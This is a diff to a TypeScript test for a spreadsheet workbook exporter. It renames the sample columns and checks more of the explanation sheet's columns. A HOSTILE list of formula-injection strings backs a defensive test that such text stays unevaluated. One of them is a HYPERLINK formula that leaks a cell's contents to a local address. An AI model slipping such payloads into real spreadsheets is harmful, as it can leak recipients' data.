@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import JSZip from 'jszip';
 import { afterAll, describe, expect, it } from 'vitest';
+import { meaningOf } from '../../pipeline/emit/columns.js';
 import { TABLES, type Table } from '../../pipeline/emit/tables.js';
 import { toWorkbook } from '../../pipeline/emit/workbook.js';
 import type { Dataset } from '../../pipeline/model.js';
@@ -21,7 +22,7 @@ const SHEET_NAMES = ['Toelichting', ...TABLES.map((t) => t.titles.nl)];
 const dir = mkdtempSync(join(tmpdir(), 'ontsluit-workbook-'));
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
-/** A small table with every kind of value, and texts a spreadsheet would run as formulas. */
+/** A small table with every kind of value, and texts a spreadsheet would run as formulas (column names of the release, which have a meaning). */
 const HOSTILE = ['=1+2', '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Klik hier")', '+SUM(1;2)', '-1+1', '@SUM(1+1)', '＝1+2', "'=1+2"];
 const sample: Table<{ text: string; n: number; d: string | null; b: boolean; l: string[] }> = {
   name: 'sample',
@@ -30,10 +31,10 @@ const sample: Table<{ text: string; n: number; d: string | null; b: boolean; l: 
   rows: () => HOSTILE.map((text, i) => ({ text, n: i - 3, d: i % 2 ? '2021-06-21' : null, b: i % 2 === 0, l: ['2021-01-01', '2021-02-28'] })).concat([{ text: 'regel een\nregel twee', n: 0, d: '2020-02-29', b: false, l: [] }]),
   columns: [
     { name: 'text', titles: { nl: 'Tekst', en: 'Text' }, datatype: 'string', required: true, value: (r) => r.text },
-    { name: 'n', titles: { nl: 'Getal', en: 'Number' }, datatype: 'integer', required: true, value: (r) => r.n },
-    { name: 'd', titles: { nl: 'Datum', en: 'Date' }, datatype: 'date', required: false, value: (r) => r.d },
-    { name: 'b', titles: { nl: 'Waar', en: 'True' }, datatype: 'boolean', required: true, value: (r) => r.b },
-    { name: 'l', titles: { nl: 'Datums', en: 'Dates' }, datatype: 'date', required: false, value: (r) => r.l, separator: '; ' },
+    { name: 'action_number', titles: { nl: 'Getal', en: 'Number' }, datatype: 'integer', required: true, value: (r) => r.n },
+    { name: 'published', titles: { nl: 'Datum', en: 'Date' }, datatype: 'date', required: false, value: (r) => r.d },
+    { name: 'in_registry', titles: { nl: 'Waar', en: 'True' }, datatype: 'boolean', required: true, value: (r) => r.b },
+    { name: 'mentioned_dates', titles: { nl: 'Datums', en: 'Dates' }, datatype: 'date', required: false, value: (r) => r.l, separator: '; ' },
   ],
   primaryKey: ['text'],
   foreignKeys: [],
@@ -131,7 +132,10 @@ describe.skipIf(!SOFFICE)('the workbook opened in LibreOffice Calc (skipped: sof
     expect(value('Bron')!.text).toBe(spec.planPage);
     expect(value('Gepubliceerd')!.date.slice(0, 10)).toBe(TODAY);
     for (const table of TABLES)
-      for (const column of table.columns) expect(about.some((row) => row[0]?.text === table.titles.nl && row[1]?.text === column.name && row[2]?.text === column.titles.nl), `${table.name}.${column.name}`).toBe(true);
+      for (const column of table.columns) {
+        const row = about.find((r) => r[0]?.text === table.titles.nl && r[1]?.text === column.name);
+        expect(row?.map((c) => c.text).slice(2, 8), `${table.name}.${column.name}`).toEqual([column.titles.nl, column.titles.en, expect.any(String), column.required ? 'ja' : 'nee', meaningOf(column.name).nl, meaningOf(column.name).en]);
+      }
   });
 
   it('keeps texts that look like formulas as text, unchanged and not evaluated', async () => {
